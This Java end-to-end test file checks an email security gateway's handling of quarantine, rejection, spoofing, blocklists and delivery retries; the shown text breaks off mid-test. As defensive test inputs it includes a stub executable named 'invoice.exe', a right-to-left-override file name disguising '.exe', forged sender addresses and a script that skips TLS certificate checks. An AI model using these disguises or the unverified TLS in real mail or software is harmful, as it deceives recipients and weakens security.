package io.mamori.app;

import static org.assertj.core.api.Assertions.assertThat;

import io.mamori.core.store.MessageState;
import io.mamori.core.store.MessageStore;
import io.mamori.core.store.StoredMessage;
import io.mamori.gateway.testing.TestDnsServer;
import io.mamori.gateway.testing.TestSmtpServer;
import io.mamori.gateway.testing.TestSmtpServer.ReceivedMessage;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.autoconfigure.actuate.observability.AutoConfigureObservability;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.test.annotation.DirtiesContext;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * The whole gateway in one Spring context with real peers on loopback: Python's smtplib and swaks send, a real
 * SMTP server receives downstream, the REST API releases quarantined mail (recorded in the audit log), and
 * notices go out through the gateway's own queue.
 *
 * <p>No other test class uses this context, and it ends with the class ({@code @DirtiesContext}): left in Spring's test
 * context cache, its delivery workers went on retrying the mail the tests left deferred (every two seconds, and to a
 * downstream server already closed) and logged into the standard error that later test classes capture.
 */
@AutoConfigureObservability(tracing = false)
@SpringBootTest(classes = MamoriApplication.class, webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
@DirtiesContext
class GatewayEndToEndTest {

    /**
     * The next hop, as Microsoft 365 or Google would be: STARTTLS with a certificate for its name, which the gateway
     * verifies by default ({@code mamori.relay.*.tls}); its CA is given as {@code mamori.relay.trust-store}.
     */
    static final io.mamori.gateway.testing.TestCertificates.Issued NEXT_HOP_CERTIFICATE =
            io.mamori.gateway.testing.TestCertificates.selfSigned("localhost");
    static final TestSmtpServer DOWNSTREAM = new TestSmtpServer(NEXT_HOP_CERTIFICATE.server()).start();
    /** DNS for sender authentication and MX lookups comes from a local zone, never the internet. */
    static final TestDnsServer DNS = new TestDnsServer().start();
    static final Path DATA;
    static final Path POLICY;

    static final java.util.List<String> CONTENT_PHISHING_WORDS = java.util.List.of("zorblefax", "quindlewort", "vextrapine",
            "morglumate", "plinthoria");

    static {
        try {
            DATA = Files.createTempDirectory("mamori-e2e");
            POLICY = DATA.resolve("policy.yaml");
            Files.writeString(POLICY, policy("example.co.jp"), StandardCharsets.UTF_8);
            Files.writeString(DATA.resolve("next-hop-ca.pem"), "-----BEGIN CERTIFICATE-----\n"
                    + java.util.Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                            .encodeToString(NEXT_HOP_CERTIFICATE.certificate().getEncoded())
                    + "\n-----END CERTIFICATE-----\n", StandardCharsets.US_ASCII);
            // A content model as `mamori learn` writes one: made-up words, so no other test's mail is judged by it
            io.mamori.core.classifier.ContentModel.Builder model = new io.mamori.core.classifier.ContentModel.Builder();
            for (int i = 0; i < 60; i++) {
                model.learn(CONTENT_PHISHING_WORDS, true).learn(java.util.List.of("agendum", "minutiae"), false);
            }
            try (java.io.OutputStream out = Files.newOutputStream(DATA.resolve("content-model.tsv"))) {
                model.build().write(out, 1);
            }
        } catch (IOException | java.security.GeneralSecurityException e) {
            throw new ExceptionInInitializerError(e);
        }
    }

    static String policy(String... domains) {
        return """
                version: 1
                organisation:
                  name: テスト株式会社
                  internal_domains: [%s]
                inbound:
                  thresholds: { tag: 2, hold: 50, quarantine: 60, reject: 100 }
                  forced:
                    ATTACHMENT_EXECUTABLE: QUARANTINE
                    ATTACHMENT_NAME_RTLO: REJECT
                    SENDER_BLOCKED: QUARANTINE
                outbound:
                  thresholds: { tag: 6, quarantine: 15 }
                  forced: { SEND_AS_NOT_PERMITTED: REJECT }
                tag:
                  subject_prefix: "[要注意]"
                lists:
                  block:
                    senders: [blocked.example]
                """.formatted(String.join(", ", domains));
    }

    @DynamicPropertySource
    static void settings(DynamicPropertyRegistry r) {
        r.add("mamori.data-dir", DATA::toString);
        r.add("mamori.dns.server", () -> "127.0.0.1:" + DNS.address().getPort());
        r.add("mamori.dns.blocklist-key", () -> "E2eKey0123");
        r.add("mamori.policy.file", POLICY::toString);
        r.add("mamori.policy.reload-interval", () -> "200ms");
        r.add("mamori.hostname", () -> "mamori.test");
        r.add("mamori.smtp.inbound.bind", () -> "127.0.0.1");
        r.add("mamori.smtp.inbound.port", () -> "0");
        r.add("mamori.smtp.outbound.bind", () -> "127.0.0.1");
        r.add("mamori.smtp.outbound.port", () -> "0");
        // by name, as a real next hop is named: its certificate is checked against the name (TLS required by default)
        r.add("mamori.relay.inbound.next-hop", () -> "localhost:" + DOWNSTREAM.port());
        r.add("mamori.relay.outbound.next-hop", () -> "localhost:" + DOWNSTREAM.port());
        r.add("mamori.relay.trust-store", () -> DATA.resolve("next-hop-ca.pem").toString());
        r.add("mamori.relay.inbound.verify-recipients", () -> "true");
        r.add("mamori.delivery.retry-initial", () -> "1s");
        r.add("mamori.delivery.retry-max", () -> "2s");
        r.add("mamori.delivery.poll-interval", () -> "100ms");
        r.add("mamori.notices.setup-url", () -> "https://mamori.example.co.jp/console/mfa");
        r.add("mamori.notices.templates-dir", () -> DATA.resolve("notices").toString());
        r.add("mamori.analysis.content-model", () -> DATA.resolve("content-model.tsv").toString());
    }

    @AfterAll
    static void stopDownstream() {
        DOWNSTREAM.close();
        DNS.close();
    }

    @Autowired
    GatewayConfiguration.Listeners listeners;

    @Autowired
    MessageStore store;

    @Autowired
    io.mamori.console.audit.JdbcAuditTrail audit;

    @Autowired
    io.mamori.console.notice.Notices notices;

    @Autowired
    io.mamori.core.reputation.BlocklistStatus blocklistStatus;

    @Autowired
    io.mamori.gateway.contact.JdbcSenderHistory senderHistory;

    @Autowired
    io.mamori.core.policy.PolicyHolder policyHolder;

    @Autowired
    io.mamori.gateway.auth.AppPasswords appPasswords;

    @LocalServerPort
    int httpPort;

    /** Messages taken from the downstream server that an earlier wait did not want. */
    private static final List<ReceivedMessage> UNCLAIMED = new ArrayList<>();

    static ReceivedMessage awaitDownstream(Predicate<ReceivedMessage> wanted, Duration timeout) {
        long deadline = System.nanoTime() + timeout.toNanos();
        synchronized (UNCLAIMED) {
            for (Iterator<ReceivedMessage> it = UNCLAIMED.iterator(); it.hasNext(); ) {
                ReceivedMessage m = it.next();
                if (wanted.test(m)) {
                    it.remove();
                    return m;
                }
            }
            while (true) {
                long left = deadline - System.nanoTime();
                if (left <= 0) {
                    throw new AssertionError("no matching message downstream within " + timeout);
                }
                ReceivedMessage m;
                try {
                    m = DOWNSTREAM.takeMessage(Duration.ofNanos(left));
                } catch (AssertionError e) {
                    throw new AssertionError("no matching message downstream within " + timeout, e);
                }
                if (wanted.test(m)) {
                    return m;
                }
                UNCLAIMED.add(m);
            }
        }
    }

    static byte[] message(String marker, String subjectEncodedWord, String extraHeaders, String body) {
        String text = "From: =?UTF-8?B?5bGx55Sw?= <yamada@partner.example>\r\n"
                + "To: sato@example.co.jp\r\n"
                + "Subject: " + subjectEncodedWord + "\r\n"
                + "Message-ID: <" + marker + "@partner.example>\r\n"
                + "Date: Sat, 28 Nov 2026 10:00:00 +0900\r\n"
                + "MIME-Version: 1.0\r\n"
                + extraHeaders
                + "\r\n"
                + body;
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    static byte[] plainJapanese(String marker) {
        // ISO-2022-JP body "お世話になっております。" and a line starting with a dot (dot-stuffing on both hops).
        String body = "\u001b$B$*@$OC$K$J$C$F$*$j$^$9!#\u001b(B\r\n.leading dot line\r\n" + marker + "\r\n";
        return message(marker, "=?ISO-2022-JP?B?GyRCOEBKWCUGJTklSBsoQg==?=",
                "Content-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 7bit\r\n", body);
    }

    /** One character of a folded field's value: the fields Mamori adds are folded with CRLF TAB. */
    static final String FOLDED = "(?:[^\r\n]|\r\n\t)";
    static final Pattern ADDED_HEADERS = Pattern.compile(
            "Received: from [^\r\n]+\r\n\tby mamori\\.test \\(Mamori\\) with ESMTP id [0-9A-Z]{26}\r\n\tfor <[^>]+>; [^\r\n]+\r\n"
                    + "Authentication-Results: mamori\\.test;" + FOLDED + "+\r\n"
                    + "X-Mamori-Verdict: [A-Z]+; score=[0-9.]+; findings=(?:[A-Z_a-z]|,(?:\r\n\t)?)+\r\n");

    /** Splits off the headers Mamori added and checks that the rest is byte-for-byte what was sent. */
    static String assertSentBytesWithAddedHeaders(byte[] sent, byte[] delivered) {
        String text = new String(delivered, StandardCharsets.ISO_8859_1);
        var m = ADDED_HEADERS.matcher(text);
        assertThat(m.lookingAt()).as("added headers at the top of:\n%s", text).isTrue();
        byte[] rest = Arrays.copyOfRange(delivered, m.end(), delivered.length);
        assertThat(rest).isEqualTo(sent);
        return m.group();
    }

    static Process run(List<String> command, byte[] stdin) throws IOException, InterruptedException {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        if (stdin != null) {
            p.getOutputStream().write(stdin);
        }
        p.getOutputStream().close();
        assertThat(p.waitFor(60, TimeUnit.SECONDS)).as("%s finished", command).isTrue();
        return p;
    }

    static String output(Process p) throws IOException {
        return new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    }

    private static final String SMTPLIB = """
            import smtplib, sys
            data = sys.stdin.buffer.read()
            host, port, sender, rcpt = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
            s = smtplib.SMTP(host, port, timeout=30)
            try:
                s.ehlo("client.partner.example")
                try:
                    s.sendmail(sender, [rcpt], data)
                    print("SENT")
                except smtplib.SMTPDataError as e:
                    print("DATA-REFUSED %d %s" % (e.smtp_code, e.smtp_error.decode()))
                except smtplib.SMTPRecipientsRefused as e:
                    code, text = list(e.recipients.values())[0]
                    print("RCPT-REFUSED %d %s" % (code, text.decode()))
            finally:
                s.quit()
            """;

    String smtplib(String rcpt, byte[] data) throws Exception {
        Process p = run(List.of("/usr/bin/python3", "-c", SMTPLIB, "127.0.0.1",
                String.valueOf(listeners.inbound().port()), "yamada@partner.example", rcpt), data);
        String out = output(p);
        assertThat(p.exitValue()).as(out).isZero();
        return out.trim();
    }

    @Test
    void pythonSmtplibMessageArrivesDownstreamByteForByteWithAddedHeaders() throws Exception {
        byte[] sent = plainJapanese("smtplib-1");

        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("smtplib-1"), Duration.ofSeconds(30));
        assertThat(got.mailFrom()).isEqualTo("yamada@partner.example");
        assertThat(got.rcpts()).containsExactly("sato@example.co.jp");
        assertThat(got.tls()).as("relayed to the next hop over TLS, its certificate verified (the default)").isTrue();
        String added = assertSentBytesWithAddedHeaders(sent, got.data());
        assertThat(added).contains("X-Mamori-Verdict: DELIVER; score=0.00; findings=none")
                .containsPattern("Authentication-Results: mamori\\.test; spf=none smtp\\.mailfrom=partner\\.example;" + FOLDED
                        + "*dmarc=none");
    }

    @Test
    void swaksMessageArrivesDownstreamByteForByteWithAddedHeaders() throws Exception {
        byte[] sent = plainJapanese("swaks-1");
        Path file = DATA.resolve("swaks-1.eml");
        // swaks ends the DATA with CRLF "." CRLF after the file's content, so the file leaves off the final CRLF
        // that the message on the wire (what swaks sends) ends with.
        Files.write(file, Arrays.copyOf(sent, sent.length - 2));

        Process p = run(List.of("swaks", "--server", "127.0.0.1:" + listeners.inbound().port(),
                "--helo", "client.partner.example", "--from", "yamada@partner.example", "--to", "sato@example.co.jp",
                "--data", "@" + file), null);
        String out = output(p);
        assertThat(p.exitValue()).as(out).isZero();
        assertThat(out).contains("<-  250 2.0.0 Ok: queued as");

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("swaks-1"), Duration.ofSeconds(30));
        assertSentBytesWithAddedHeaders(sent, got.data());
    }

    @Test
    void relayAttemptOnInboundIsRefusedWith550() throws Exception {
        assertThat(smtplib("someone@elsewhere.example", plainJapanese("relay-1")))
                .startsWith("RCPT-REFUSED 550").contains("5.7.1");
    }

    @Test
    void malformedMimeIsTaggedWithSubjectPrefixAndBanner() throws Exception {
        String body = "--XYZ\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\nbroken-1 本文です\r\n";   // never closed
        byte[] sent = message("broken-1", "=?UTF-8?B?6KuL5rGC5pu4?=",
                "Content-Type: multipart/mixed; boundary=\"XYZ\"\r\n", body);

        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("broken-1@partner.example"), Duration.ofSeconds(30));
        String text = new String(got.data(), StandardCharsets.UTF_8);
        assertThat(text).contains("X-Mamori-Verdict: TAG;").contains("MIME_MALFORMED");
        assertThat(org.apache.james.mime4j.codec.DecoderUtil.decodeEncodedWords(
                text.lines().filter(l -> l.startsWith("Subject:")).findFirst().orElseThrow().substring(8).trim(),
                org.apache.james.mime4j.codec.DecodeMonitor.SILENT)).isEqualTo("[要注意] 請求書");
    }

    @Test
    void mailInTheOrganisationsOwnNameFromAnOutsideServerIsTagged() throws Exception {
        // example.co.jp is the organisation's; the local zone publishes no SPF, DKIM key or DMARC record for it, so
        // nothing authorises 127.0.0.1 to write in its name
        byte[] forged = ("From: =?UTF-8?B?57eP5YuZ6YOo?= <soumu@example.co.jp>\r\n"
                + "To: sato@example.co.jp\r\nSubject: own-domain-1\r\nMessage-ID: <own-domain-1@example.co.jp>\r\n"
                + "Date: Sat, 28 Nov 2026 10:00:00 +0900\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: text/plain; charset=UTF-8\r\n\r\nown-domain-1\r\n").getBytes(StandardCharsets.US_ASCII);
        assertThat(smtplib("sato@example.co.jp", forged)).isEqualTo("SENT");
        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("own-domain-1@example.co.jp"),
                Duration.ofSeconds(30));
        assertThat(got.dataAsString()).contains("X-Mamori-Verdict: TAG;").contains("OWN_DOMAIN_UNAUTHENTICATED");
    }

    @Test
    void blockListsTheLocalZonePublishesAreAskedOnlyOnceThePolicyNamesThem() throws Exception {
        // the lists' zones are the test's own, answered by the local DNS server like Spamhaus answers: the client
        // address 127.0.0.1 as "exploited machine", a link's domain as "phishing domain"
        // the IP list's zone is written with {key}, which the setting mamori.dns.blocklist-key fills in
        DNS.a("1.0.0.127.e2ekey0123.zen.blocklist.test", "127.0.0.4");
        DNS.a("phish-landing.example.dbl.blocklist.test", "127.0.1.4");
        byte[] listed = message("blocklist-1", "=?UTF-8?B?6KuL5rGC5pu4?=", "Content-Type: text/plain; charset=UTF-8\r\n",
                "blocklist-1 https://phish-landing.example/login\r\n");
        assertThat(smtplib("sato@example.co.jp", listed)).isEqualTo("SENT");
        ReceivedMessage before = awaitDownstream(m -> m.dataAsString().contains("blocklist-1@partner.example"),
                Duration.ofSeconds(30));
        assertThat(before.dataAsString()).as("no zones in the policy: nothing asked")
                .doesNotContain("IP_BLOCKLISTED").doesNotContain("DOMAIN_BLOCKLISTED");

        // a third list refuses this gateway as Spamhaus refuses a public resolver: an error code for every question
        DNS.a("partner.example.refusing.blocklist.test", "127.255.255.254");
        withPolicy("blocklists:\n  ip: [\"{key}.zen.blocklist.test\"]\n  domain: [dbl.blocklist.test, refusing.blocklist.test]\n",
                p -> !p.blocklists().isEmpty(), () -> {
                    byte[] again = message("blocklist-2", "=?UTF-8?B?6KuL5rGC5pu4?=",
                            "Content-Type: text/plain; charset=UTF-8\r\n", "blocklist-2 https://phish-landing.example/login\r\n");
                    assertThat(smtplib("sato@example.co.jp", again)).isEqualTo("SENT");
                    ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("blocklist-2@partner.example"),
                            Duration.ofSeconds(30));
                    assertThat(got.dataAsString()).contains("X-Mamori-Verdict: TAG;").contains("IP_BLOCKLISTED")
                            .contains("DOMAIN_BLOCKLISTED").doesNotContain("refusing.blocklist.test");
                    // what the lists answered reaches the status the console shows and the metrics; never the key
                    var lists = blocklistStatus.zones(java.util.List.of("{key}.zen.blocklist.test"),
                            java.util.List.of("dbl.blocklist.test", "refusing.blocklist.test"));
                    assertThat(lists).extracting(z -> z.zone() + " " + z.state() + " listed=" + z.listed()
                            + " errors=" + z.errorCodes()).containsExactly(
                            "{key}.zen.blocklist.test WORKING listed=1 errors=0",
                            "dbl.blocklist.test WORKING listed=1 errors=0",
                            "refusing.blocklist.test REFUSING listed=0 errors=1");
                    HttpResponse<String> metrics = HttpClient.newHttpClient().send(
                            HttpRequest.newBuilder(api("/actuator/prometheus")).build(), HttpResponse.BodyHandlers.ofString());
                    assertThat(metrics.body())
                            .containsPattern("mamori_blocklists_answers_total\\{[^}]*outcome=\"error_code\"[^}]*zone=\"refusing\\.blocklist\\.test\"[^}]*} 1\\.0")
                            .containsPattern("mamori_blocklists_answers_total\\{[^}]*outcome=\"listed\"[^}]*zone=\"dbl\\.blocklist\\.test\"[^}]*} 1\\.0")
                            .doesNotContain("e2ekey0123");
                    // the same for a monitoring system, with the administrator's token
                    String token = Files.readString(DATA.resolve("api-token")).trim();
                    HttpResponse<String> status = get(HttpClient.newHttpClient(), token, "/api/v1/status");
                    assertThat(status.statusCode()).isEqualTo(200);
                    com.fasterxml.jackson.databind.JsonNode json = new com.fasterxml.jackson.databind.ObjectMapper()
                            .readTree(status.body());
                    assertThat(json.path("antivirus").path("state").asText()).as("no engine configured here")
                            .isEqualTo("NOT_ASKED_YET");
                    assertThat(json.path("blocklists")).extracting(z -> z.path("zone").asText() + " " + z.path("list").asText()
                            + " " + z.path("state").asText() + " " + z.path("errorCodes").asLong()).containsExactly(
                            "{key}.zen.blocklist.test ip WORKING 0", "dbl.blocklist.test domain WORKING 0",
                            "refusing.blocklist.test domain REFUSING 1");
                    assertThat(status.body()).doesNotContain("e2ekey0123");
                    assertThat(get(HttpClient.newHttpClient(), "wrong" + token, "/api/v1/status").statusCode())
                            .isEqualTo(401);
                });
    }

    @Test
    void theContentModelNamedBySettingsJudgesInboundWording() throws Exception {
        byte[] sent = message("content-1", "=?UTF-8?B?6KuL5rGC5pu4?=", "Content-Type: text/plain; charset=UTF-8\r\n",
                "content-1: " + String.join(" ", CONTENT_PHISHING_WORDS) + "\r\n");
        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");
        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("content-1@partner.example"), Duration.ofSeconds(30));
        assertThat(got.dataAsString()).contains("X-Mamori-Verdict: TAG;").contains("CONTENT_LIKE_PHISHING");

        byte[] plain = message("content-2", "=?UTF-8?B?6KuL5rGC5pu4?=", "Content-Type: text/plain; charset=UTF-8\r\n",
                "content-2: agendum minutiae of the weekly meeting\r\n");
        assertThat(smtplib("sato@example.co.jp", plain)).isEqualTo("SENT");
        ReceivedMessage other = awaitDownstream(m -> m.dataAsString().contains("content-2@partner.example"), Duration.ofSeconds(30));
        assertThat(other.dataAsString()).doesNotContain("CONTENT_LIKE_PHISHING");
    }

    @Test
    void executableAttachmentIsQuarantinedAndArrivesOnlyAfterReleaseThroughTheRestApi() throws Exception {
        String body = "--B1\r\nContent-Type: text/plain\r\n\r\nplease see attached quarantine-1\r\n"
                + "--B1\r\nContent-Type: application/octet-stream; name=\"invoice.exe\"\r\n"
                + "Content-Disposition: attachment; filename=\"invoice.exe\"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
                + "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==\r\n--B1--\r\n";
        byte[] sent = message("quarantine-1", "invoice", "Content-Type: multipart/mixed; boundary=\"B1\"\r\n", body);

        assertThat(smtplib("sato@example.co.jp", sent)).isEqualTo("SENT");

        StoredMessage q = waitFor(() -> store.list(MessageState.QUARANTINED, 50).stream()
                .filter(m -> m.findingCodes().contains("ATTACHMENT_EXECUTABLE")).findFirst().orElse(null));
        assertThat(q.action()).isEqualTo("QUARANTINE");
        Thread.sleep(500);
        assertThat(UNCLAIMED).noneMatch(m -> m.dataAsString().contains("quarantine-1"));

        HttpClient http = HttpClient.newHttpClient();
        HttpResponse<String> unauthorised = http.send(HttpRequest.newBuilder(api("/api/v1/messages/" + q.id() + "/release"))
                .POST(HttpRequest.BodyPublishers.noBody()).build(), HttpResponse.BodyHandlers.ofString());
        assertThat(unauthorised.statusCode()).isEqualTo(401);

        String token = Files.readString(DATA.resolve("api-token")).trim();
        HttpResponse<String> released = http.send(HttpRequest.newBuilder(api("/api/v1/messages/" + q.id() + "/release"))
                .header("Authorization", "Bearer " + token).POST(HttpRequest.BodyPublishers.noBody()).build(),
                HttpResponse.BodyHandlers.ofString());
        assertThat(released.statusCode()).as(released.body()).isEqualTo(200);

        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("quarantine-1"), Duration.ofSeconds(30));
        assertThat(got.dataAsString()).contains("X-Mamori-Verdict: QUARANTINE;");
    }

    @Test
    void rtloFileNameIsRejectedBeforeAcceptance() throws Exception {
        String body = "--B2\r\nContent-Type: text/plain\r\n\r\nreject-1\r\n"
                + "--B2\r\nContent-Type: application/octet-stream; name=\"=?UTF-8?B?aW52b2ljZeKArmZkcC5leGU=?=\"\r\n"
                + "Content-Disposition: attachment; filename*=UTF-8''invoice%E2%80%AEfdp.exe\r\n\r\nxx\r\n--B2--\r\n";
        byte[] sent = message("reject-1", "invoice", "Content-Type: multipart/mixed; boundary=\"B2\"\r\n", body);

        assertThat(smtplib("sato@example.co.jp", sent)).startsWith("DATA-REFUSED 550").contains("5.7.1");
        assertThat(store.list(null, 200)).noneMatch(m -> m.findingCodes().contains("ATTACHMENT_NAME_RTLO"));
    }

    @Test
    void tempFailureDownstreamIsRetriedAndDeliveredOnce() throws Exception {
        DOWNSTREAM.enqueue(TestSmtpServer.Reply.tempFail451());
        byte[] sent = plainJapanese("retry-1");

        assertThat(smtplib("retry@example.co.jp", sent)).isEqualTo("SENT");

        awaitDownstream(m -> m.dataAsString().contains("retry-1"), Duration.ofSeconds(30));
        Thread.sleep(3000);
        assertThat(UNCLAIMED).noneMatch(m -> m.dataAsString().contains("retry-1"));
        StoredMessage stored = waitFor(() -> store.list(null, 200).stream()
                .filter(m -> m.recipients().get(0).address().equals("retry@example.co.jp"))
                .filter(m -> m.state() == MessageState.DELIVERED).findFirst().orElse(null));
        assertThat(stored.attempts()).as("delivered at the second attempt, once").isEqualTo(2);
    }

    @Test
    void anAddressTheMailboxServiceDoesNotHaveIsRefusedAtRcptSoNoDsnIsOwed() throws Exception {
        // mamori.relay.inbound.verify-recipients: the next hop is asked over the same verified TLS as delivery
        DOWNSTREAM.enqueue(TestSmtpServer.Reply.rcptReject("nobody@example.co.jp", 550));

        assertThat(smtplib("nobody@example.co.jp", plainJapanese("unknown-1")))
                .isEqualTo("RCPT-REFUSED 550 5.1.1 Recipient address rejected: no such mailbox");
        assertThat(store.list(null, 500)).noneMatch(m -> m.recipients().stream()
                .anyMatch(r -> r.address().equals("nobody@example.co.jp")));
    }

    @Test
    void permanentRefusalDownstreamSendsADsnToTheSender() throws Exception {
        DOWNSTREAM.enqueue(TestSmtpServer.Reply.reject550());
        byte[] sent = plainJapanese("bounce-1");

        assertThat(smtplib("kimura@example.co.jp", sent)).isEqualTo("SENT");

        ReceivedMessage dsn = awaitDownstream(m -> m.mailFrom().isEmpty() && m.dataAsString().contains("bounce-1"),
                Duration.ofSeconds(30));
        assertThat(dsn.rcpts()).containsExactly("yamada@partner.example");
        assertThat(dsn.dataAsString()).contains("multipart/report").contains("report-type=delivery-status")
                .contains("Final-Recipient: rfc822; kimura@example.co.jp").contains("Action: failed")
                .contains("Status: 5.7.1");
    }

    @Test
    void aDsnGoesBackTheWayTheFailedMessageCame() throws Exception {
        // an employee's outbound mail refused by the far end: the DSN goes to the employee's mailbox, inbound
        DOWNSTREAM.enqueue(TestSmtpServer.Reply.rcptReject("gone@partner.example", 550));
        Process p = run(List.of("/usr/bin/python3", "-c", SMTPLIB, "127.0.0.1", String.valueOf(listeners.outbound().port()),
                "sato@example.co.jp", "gone@partner.example"), plainJapanese("bounce-out-1"));
        assertThat(output(p).trim()).isEqualTo("SENT");

        ReceivedMessage dsn = awaitDownstream(m -> m.mailFrom().isEmpty() && m.dataAsString().contains("bounce-out-1"),
                Duration.ofSeconds(30));
        assertThat(dsn.rcpts()).containsExactly("sato@example.co.jp");
        assertThat(store.list(null, 500)).filteredOn(m -> m.mailFrom().isEmpty()
                        && m.recipients().stream().anyMatch(r -> r.address().equals("sato@example.co.jp")))
                .extracting(StoredMessage::direction).contains(io.mamori.core.message.Direction.INBOUND)
                .doesNotContain(io.mamori.core.message.Direction.OUTBOUND);
    }

    /** Submits with STARTTLS and AUTH LOGIN (the gateway's own self-signed certificate is not checked). */
    private static final String SUBMIT = """
            import smtplib, ssl, sys
            data = sys.stdin.buffer.read()
            host, port, user, password, sender, rcpt = sys.argv[1], int(sys.argv[2]), *sys.argv[3:7]
            s = smtplib.SMTP(host, port, timeout=30)
            try:
                s.starttls(context=ssl._create_unverified_context())
                s.login(user, password)
                try:
                    s.sendmail(sender, [rcpt], data)
                    print("SENT")
                except smtplib.SMTPDataError as e:
                    print("DATA-REFUSED %d %s" % (e.smtp_code, e.smtp_error.decode()))
            finally:
                s.quit()
            """;

    private String submit(String login, String password, String sender, String from, String marker) throws Exception {
        byte[] data = new String(message(marker, "=?UTF-8?B?6KaL56mN?=", "", "見積書をお送りします。\r\n" + marker + "\r\n"),
                StandardCharsets.ISO_8859_1).replace("From: =?UTF-8?B?5bGx55Sw?= <yamada@partner.example>", "From: " + from)
                .replace("To: sato@example.co.jp", "To: buyer@partner.example").getBytes(StandardCharsets.ISO_8859_1);
        Process p = run(List.of("/usr/bin/python3", "-c", SUBMIT, "127.0.0.1", String.valueOf(listeners.outbound().port()),
                login, password, sender, "buyer@partner.example"), data);
        String out = output(p);
        assertThat(p.exitValue()).as(out).isZero();
        return out.trim();
    }

    @Test
    void theAppPasswordIsNotLoggedEvenWhenTheSmtpLibrarysCommandTraceIsOn() throws Exception {
        String password = appPasswords.issue("jiro@example.co.jp", "trace");
        ch.qos.logback.classic.Logger session = (ch.qos.logback.classic.Logger) org.slf4j.LoggerFactory
                .getLogger("org.subethamail.smtp.server.Session");
        ch.qos.logback.core.read.ListAppender<ch.qos.logback.classic.spi.ILoggingEvent> logged =
                new ch.qos.logback.core.read.ListAppender<>();
        logged.start();
        ch.qos.logback.classic.Level before = session.getLevel();
        session.setLevel(ch.qos.logback.classic.Level.DEBUG);
        session.addAppender(logged);
        try {
            // smtplib sends AUTH PLAIN with its initial response: the login and password in one base64 line
            assertThat(submit("jiro@example.co.jp", password, "jiro@example.co.jp", "jiro@example.co.jp", "trace-1"))
                    .isEqualTo("SENT");
        } finally {
            session.detachAppender(logged);
            session.setLevel(before);
        }
        // delivered before the next test scripts the downstream server's replies
        awaitDownstream(m -> m.dataAsString().contains("trace-1"), Duration.ofSeconds(30));
        String plain = java.util.Base64.getEncoder().encodeToString(("\0jiro@example.co.jp\0" + password)
                .getBytes(StandardCharsets.UTF_8));
        List<String> lines = logged.list.stream().map(e -> e.getFormattedMessage()).toList();
        assertThat(lines).as("the trace is on").anyMatch(l -> l.contains("FROM:<jiro@example.co.jp>"));
        assertThat(lines).noneMatch(l -> l.contains(plain) || l.contains(password));
    }

    @Test
    void anEmployeeWithAnAppPasswordSendsAsThemselvesOrAsTheyAreAllowedButNotAsSomeoneElse() throws Exception {
        String password = appPasswords.issue("taro@example.co.jp", "laptop");
        assertThat(submit("taro@example.co.jp", password, "taro@example.co.jp", "太郎 <taro@example.co.jp>", "send-as-own"))
                .isEqualTo("SENT");
        assertThat(awaitDownstream(m -> m.dataAsString().contains("send-as-own"), Duration.ofSeconds(30)).mailFrom())
                .isEqualTo("taro@example.co.jp");

        // the president's address: refused before anything is accepted, the client told why
        assertThat(submit("taro@example.co.jp", password, "ceo@example.co.jp", "社長 <ceo@example.co.jp>", "send-as-ceo"))
                .isEqualTo("DATA-REFUSED 550 5.7.1 Message rejected by policy (SEND_AS_NOT_PERMITTED)");
        // the envelope is taro's, but the reader would see the president
        assertThat(submit("taro@example.co.jp", password, "taro@example.co.jp", "ceo@example.co.jp", "send-as-from"))
                .startsWith("DATA-REFUSED 550 5.7.1").contains("SEND_AS_NOT_PERMITTED");
        assertThat(store.list(null, 500)).extracting(StoredMessage::mailFrom).doesNotContain("ceo@example.co.jp");

        // a shared mailbox the policy gives to taro
        withPolicy("""
                send_as:
                  - login: taro@example.co.jp
                    addresses: [sales@example.co.jp]
                """, p -> p.sendAs().permits("taro@example.co.jp", "sales@example.co.jp"), () -> {
            assertThat(submit("taro@example.co.jp", password, "sales@example.co.jp", "営業部 <sales@example.co.jp>",
                    "send-as-sales")).isEqualTo("SENT");
            assertThat(awaitDownstream(m -> m.dataAsString().contains("send-as-sales"), Duration.ofSeconds(30))
                    .mailFrom()).isEqualTo("sales@example.co.jp");
        });
    }

    @Test
    void downstreamThatIsDownForAWhileGetsTheMailOnceItIsBack() throws Exception {
        DOWNSTREAM.stop();
        try {
            assertThat(smtplib("sato@example.co.jp", plainJapanese("outage-1"))).isEqualTo("SENT");
            Thread.sleep(2500);
        } finally {
            DOWNSTREAM.start();
        }
        ReceivedMessage got = awaitDownstream(m -> m.dataAsString().contains("outage-1"), Duration.ofSeconds(30));
